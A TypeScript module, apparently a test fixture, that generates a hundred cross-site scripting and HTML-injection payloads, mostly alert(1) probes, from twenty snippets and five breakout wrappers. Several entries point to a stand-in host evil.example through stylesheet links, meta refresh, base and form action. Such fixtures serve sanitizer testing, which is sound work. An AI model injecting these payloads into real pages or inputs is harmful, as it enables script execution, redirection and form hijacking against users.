const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=x>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b \u0000onclick=alert(1)>',
  '\u202e<gpj.exe>\u2066',
]

/** How a payload tries to leave the place it stands in: bare, out of an attribute, out of an element, past a check. */
const breakouts: readonly ((script: string) => string)[] = [
  script => script,
  script => `"><x ${script}`,
  script => `' autofocus onfocus=alert(1) x='${script}`,
  script => `</td></table></style></title></code>${script}`,
  script => `\`\u2028\ufeff${script}\r\n`,
]

/** A hundred texts that try to become markup. */
export const payloads: readonly string[] = breakouts.flatMap(breakout => scripts.map(breakout))
